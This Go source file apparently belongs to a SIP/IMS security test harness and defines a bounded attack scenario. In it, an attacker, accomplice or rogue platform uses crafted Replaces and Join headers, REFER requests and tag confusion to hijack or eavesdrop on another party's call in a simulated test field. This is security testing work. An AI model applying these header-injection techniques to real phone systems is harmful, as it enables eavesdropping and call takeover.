package attack

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"imsafe/client/ue"
	"imsafe/proto/rtpport"
	"imsafe/proto/sdp"
	"imsafe/proto/sip"
	"imsafe/secure"
)

// confIntrude: somebody names a call of others, and is given the media of one of its ends.
func confIntrude() Attack {
	controls := []secure.ControlID{secure.CSAuthorizationGrantLeg}
	return Attack{
		ID: "cs.conf.intrude", Number: "CS-08", Title: "a call of others, joined or taken over by who knows its name",
		Text: "a telephone that knows Replaces or Join gives its media to whoever names its call, and rings for nobody: who has read the Call-ID and the tags " +
			"of two others, in a log or as a service of another call, listens to one of them, or speaks in the other's place",
		Services: []Service{Confidentiality}, Stride: Elevation, Threats: []Threat{Disclosure}, Module: ApplicationsUser,
		Source: "RFC 3891 3, 8; RFC 3911 9", Access: []Access{TLS}, Media: true, Crowd: 1,
		Approved: []Approved{{Name: intruder, Manifest: rights("session.proxy", "session.originate", "media.send", "media.receive") + asked("terminating", 10, "continue")}},
		Bounds:   Bounds{Packets: 200, Bytes: 200_000, Conns: 4, Time: 4 * time.Second},
		Variants: []Variant{
			{Name: "replace", Position: Subscriber, Controls: controls, Run: intrudes("Replaces", nil, nil)},
			{Name: "join", Position: Subscriber, Controls: controls, Run: intrudes("Join", nil, nil)},
			{Name: "referred", Position: Subscriber, Controls: controls, Run: intrudes("Replaces", nil, sentByAccomplice)},
			{Name: "transferred", Position: Subscriber, Controls: controls, Run: intrudes("Replaces", sendsAnother, nil)},
			{Name: "in-dialog", Position: Subscriber, Controls: controls, Run: intrudesLater},
			{Name: "both", Position: Subscriber, Controls: controls, Run: intrudesByBoth},
			{Name: "platform", Position: EnrolledPlatform, Access: []Access{ISC}, Controls: controls, Run: platformIntrudes},
			{Name: "in-passing", Position: EnrolledPlatform, Access: []Access{ISC}, Controls: controls, Run: intrudesInPassing},
		},
	}
}

// herVoice is what carol says: an octet that nobody else in the call sends.
const herVoice = 0x5a

// intrudes: carol calls bob. Mallory, who knows the name of their call, calls carol and names it. before, if not nil, is what he does first, and sends what carol has done
// before that.
func intrudes(header string, sends func(ctx context.Context, f *Field, t *telephone) error, before func(ctx context.Context, f *Field, mallory *Hand, call string) (string, error)) func(context.Context, *Field, *Outcome) error {
	return func(ctx context.Context, f *Field, o *Outcome) error {
		t, mallory, end, err := f.talksBesideMallory(ctx, sends)
		if err != nil {
			return err
		}
		defer end()
		prelude := ""
		if before != nil {
			if prelude, err = before(ctx, f, mallory, t.name()); err != nil {
				return err
			}
		}
		s := &speaker{hand: mallory, invite: Request{Method: "INVITE", URI: t.hand.IMPU, FromTag: f.token(), CallID: f.token(), Lines: []string{header + ": " + t.name()}}}
		return t.overheard(ctx, f, o, s, prelude+"an INVITE with "+header)
	}
}

// intrudesLater: mallory has a call with carol, of his own, and names the other one in a re-INVITE.
func intrudesLater(ctx context.Context, f *Field, o *Outcome) error {
	t, mallory, end, err := f.talksBesideMallory(ctx, nil)
	if err != nil {
		return err
	}
	defer end()
	s := &speaker{hand: mallory, invite: Request{Method: "INVITE", URI: t.hand.IMPU, FromTag: f.token(), CallID: f.token()}}
	if err := s.begin(ctx, f, nil); err != nil { // she takes it, and says nothing in it
		return err
	}
	s.invite.Lines = append(s.invite.Lines, "Replaces: "+t.name())
	return t.overheard(ctx, f, o, s, "a re-INVITE with Replaces")
}

// intrudesByBoth: mallory's own call with carol has the Call-ID of hers with bob. In a re-INVITE he names both of them at once: by tags of which some readers take the
// first, and some the last.
func intrudesByBoth(ctx context.Context, f *Field, o *Outcome) error {
	t, mallory, end, err := f.talksBesideMallory(ctx, nil)
	if err != nil {
		return err
	}
	defer end()
	s := &speaker{hand: mallory, invite: Request{Method: "INVITE", URI: t.hand.IMPU, FromTag: f.token(), CallID: t.invite.CallID}}
	if err := s.begin(ctx, f, nil); err != nil {
		return err
	}
	s.invite.Lines = append(s.invite.Lines, "Replaces: "+t.name()+";to-tag="+s.invite.FromTag+";from-tag="+s.invite.ToTag)
	return t.overheard(ctx, f, o, s, "a re-INVITE with the tags of two calls")
}

// sendsAnother: carol sends somebody else to her call with bob, as who transfers it. That is his right, and nobody's beside him.
func sendsAnother(ctx context.Context, f *Field, t *telephone) error {
	friend, err := f.accomplice(ctx, 0)
	if err != nil {
		return err
	}
	inside, _, err := t.hand.talksTo(ctx, friend)
	if err != nil {
		return err
	}
	friend.answers.Store(true)
	inside.Method = "REFER"
	inside.Lines = append(inside.Lines, "Contact: "+t.hand.Contact(), refersTo(f.Bob.IMPU, t.name()))
	answer, err := t.hand.Ask(ctx, t.hand.Text(inside))
	if err != nil || answer.Status()/100 != 2 {
		return fmt.Errorf("attack: carol's REFER is answered %d: %w", statusOf(answer), err)
	}
	return nil
}

// refersTo has somebody call whom, in the place of an end of a call.
func refersTo(whom, call string) string {
	return "Refer-To: <" + whom + "?Replaces=" + strings.NewReplacer(";", "%3B", "=", "%3D").Replace(call) + ">"
}

// sentByAccomplice: in a call of their own, which is not the one that is named, an accomplice sends mallory to that.
func sentByAccomplice(ctx context.Context, f *Field, mallory *Hand, call string) (string, error) {
	accomplice, err := f.accomplice(ctx, 0)
	if err != nil {
		return "", err
	}
	inside, _, err := accomplice.talksTo(ctx, mallory)
	if err != nil {
		return "", err
	}
	inside.Method = "REFER"
	inside.Lines = append(inside.Lines, "Contact: "+accomplice.Contact(), refersTo(f.Users[Carol].IMPU, call))
	answer, err := accomplice.Ask(ctx, accomplice.Text(inside))
	if err != nil {
		return "", err
	}
	mallory.answers.Store(false)
	return fmt.Sprintf("an accomplice's REFER is answered %d; ", answer.Status()), nil
}

// telephone is an honest user's, in a call, which does what RFC 3891 and RFC 3911 say of an INVITE that names it: it asks nobody, and speaks.
type telephone struct {
	*speaker
	f     *Field
	given atomic.Int32 // how often it has given its media to who named its call

	mu    sync.Mutex
	taken []*rtpport.Leg // of calls that it has answered
}

// close ends all its media.
func (t *telephone) close() {
	t.speaker.close()
	t.mu.Lock()
	defer t.mu.Unlock()
	for _, l := range t.taken {
		l.Close()
	}
}

// carolTalks makes a call of carol's to bob, in which she speaks, and serves what comes to her telephone; first, if not nil, is what she does before that.
func (f *Field) carolTalks(ctx context.Context, first func(ctx context.Context, f *Field, t *telephone) error) (*telephone, *ue.Call, error) {
	carol, err := f.witness(ctx, Carol, nil)
	if err != nil {
		return nil, nil, err
	}
	if err := carol.Register(ctx); err != nil {
		return nil, nil, err
	}
	carol.answers.Store(false)
	s, call, err := f.speak(ctx, carol, f.Bob)
	if err != nil {
		return nil, nil, err
	}
	t := &telephone{speaker: s, f: f}
	if first != nil {
		if err := first(ctx, f, t); err != nil {
			t.close()
			call.Hangup()
			return nil, nil, err
		}
	}
	go t.serve(ctx)
	return t, call, nil
}

// talksBesideMallory is carolTalks with mallory on his telephone. end ends her call.
func (f *Field) talksBesideMallory(ctx context.Context, first func(ctx context.Context, f *Field, t *telephone) error) (t *telephone, mallory *Hand, end func(), err error) {
	t, call, err := f.carolTalks(ctx, first)
	if err != nil {
		return nil, nil, nil, err
	}
	end = func() {
		call.Hangup()
		t.close()
	}
	if mallory, err = f.Mallory(ctx); err != nil {
		end()
		return nil, nil, nil, err
	}
	return t, mallory, end, nil
}

// name is how her call is named by who asks her for it: his to-tag is hers.
func (t *telephone) name() string {
	return t.invite.CallID + ";to-tag=" + t.invite.FromTag + ";from-tag=" + t.invite.ToTag
}

// serve answers INVITEs until ctx ends or the connection does.
func (t *telephone) serve(ctx context.Context) {
	for {
		m, err := t.hand.Await(ctx, func(m *sip.Message) bool { return m.IsRequest() && m.Method() == sip.INVITE })
		if err != nil {
			return
		}
		_ = t.answer(ctx, m) // who gets nothing has not reached anything
		m.Release()
	}
}

// answer takes a call with media of its own. Into one that names hers she speaks.
func (t *telephone) answer(ctx context.Context, m *sip.Message) error {
	offer, err := sdp.Parse(m.Body(), sdp.Limits{})
	if err != nil {
		return err
	}
	leg, err := t.f.leg(t.f.honest, nil)
	if err != nil {
		return err
	}
	t.mu.Lock()
	t.taken = append(t.taken, leg)
	t.mu.Unlock()
	go func() { _ = leg.Run(ctx) }()
	local := sdp.Local{ID: 1, Version: 1, Address: leg.Local().Addr(), Port: leg.Local().Port(), Fingerprints: leg.Fingerprints()}
	answer, agreed, err := sdp.Answer(offer, local, voiceOf())
	if err != nil {
		return err
	}
	body, err := answer.Marshal()
	if err != nil {
		return err
	}
	named := strings.HasPrefix(string(m.Get(sip.HdrReplaces)), t.name()) || string(m.Get(sip.HdrJoin)) == t.name()
	if err := errors.Join(leg.Start(agreed), t.hand.answersDescribed(m, string(body), t.hand.Contact())); err != nil || !named {
		return err
	}
	t.given.Add(1)
	go t.speaks(ctx, leg)
	return nil
}

// speaks says a second of what carol says.
func (t *telephone) speaks(ctx context.Context, leg *rtpport.Leg) {
	select {
	case <-leg.Ready():
	case <-ctx.Done():
		return
	}
	for n := range uint16(50) {
		if leg.Forward(rtpPacket(0xca401, n, bytes.Repeat([]byte{herVoice}, 160)), false) != nil || pause(ctx, 20*time.Millisecond) != nil {
			return
		}
	}
}

// overheard sends mallory's INVITE and says what he hears of carol.
func (t *telephone) overheard(ctx context.Context, f *Field, o *Outcome, s *speaker, what string) error {
	defer s.close()
	const enough = 10
	var words atomic.Int32
	s.hears = func(b []byte, control bool) {
		if !control && len(b) > 12+2 && b[12] == herVoice && b[len(b)-1] == herVoice {
			words.Add(1)
		}
	}
	s.status = 0
	err := s.begin(ctx, f, nil)
	if err != nil && s.status == 0 {
		return err
	}
	if s.status == 200 {
		_ = within(ctx, 2*time.Second, func(ctx context.Context) error {
			for words.Load() < enough {
				if err := pause(ctx, 20*time.Millisecond); err != nil {
					return err
				}
			}
			return nil
		})
	}
	heard, given := words.Load(), t.given.Load()
	o.Arrived("%s that names carol's call with bob is answered %d", what, s.status)
	if heard > 0 {
		o.Users = 2
	}
	o.Peer(given > 0, "carol's telephone gives her voice %d times to who names her call", given)
	o.Wire(heard > 0, "mallory hears %d packets of carol's voice", heard)
	return nil
}

// intruder is a platform that may begin calls, with media, and passes those to carol on.
const intruder = "intruder"

// platformIntrudes: dave has a call with carol, past the platform, which calls her and names it. Whoever is in the path of a call is no end of it.
func platformIntrudes(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, err := f.callerAndCallee(ctx)
	if err != nil {
		return err
	}
	s, err := f.server(ctx, f.attacker, intruder, nil)
	if err != nil {
		return err
	}
	inside, _, err := dave.talksTo(ctx, carol)
	if err != nil {
		return err
	}
	callID := f.token()
	answer, err := s.Ask(ctx, s.Begins(Request{Method: "INVITE", URI: carol.IMPU, CallID: callID, Body: keyed(platformKey),
		Lines: []string{s.contact(), "Content-Type: application/sdp", "Replaces: " + nameOf(dave, &inside)}}))
	if err != nil {
		return err
	}
	return carol.wasNamed(ctx, o, callID, fmt.Sprintf("the platform's INVITE with Replaces is answered %d", answer.Status()), answer.Status() == 200)
}

// intrudesInPassing: dave has a call with carol. When he calls her once more, the platform that passes that on lets it take the place of the first.
func intrudesInPassing(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, err := f.callerAndCallee(ctx)
	if err != nil {
		return err
	}
	var named atomic.Pointer[string]
	if _, err = f.server(ctx, f.attacker, intruder, func(s *Server) {
		s.Edit = func(m *sip.Message) {
			if call := named.Load(); call != nil && m.Method() == sip.INVITE {
				m.SetString(sip.HdrReplaces, *call)
			}
		}
	}); err != nil {
		return err
	}
	inside, _, err := dave.talksTo(ctx, carol)
	if err != nil {
		return err
	}
	call, callID := nameOf(dave, &inside), f.token()
	named.Store(&call)
	answer, err := dave.Ask(ctx, dave.callsKeyed(carol.IMPU, callID))
	if err != nil {
		return err
	}
	return carol.wasNamed(ctx, o, callID, fmt.Sprintf("dave's second call, into which the platform puts Replaces, is answered %d", answer.Status()), answer.Status() == 200)
}

// nameOf is how a call of the caller's is named to whom he has called.
func nameOf(caller *Hand, inside *Request) string {
	return inside.CallID + ";to-tag=" + inside.ToTag + ";from-tag=" + caller.tag
}

// wasNamed says whether the telephone is asked to give a call of its own away.
func (h *Hand) wasNamed(ctx context.Context, o *Outcome, callID, delivered string, answered bool) error {
	asked := false
	_ = within(ctx, soon, func(ctx context.Context) error {
		m, err := h.Await(ctx, func(m *sip.Message) bool {
			return m.IsRequest() && m.Method() == sip.INVITE && string(m.Get(sip.HdrCallID)) == callID
		})
		if err == nil {
			asked = m.Has(sip.HdrReplaces)
			m.Release()
		}
		return err
	})
	if asked {
		o.Users = 2
	}
	o.Arrived("%s", delivered)
	o.Peer(asked, "%s's telephone is asked to give its call away: %v", h.Name, asked)
	o.Wire(answered, "and says yes: %v", answered)
	return nil
}
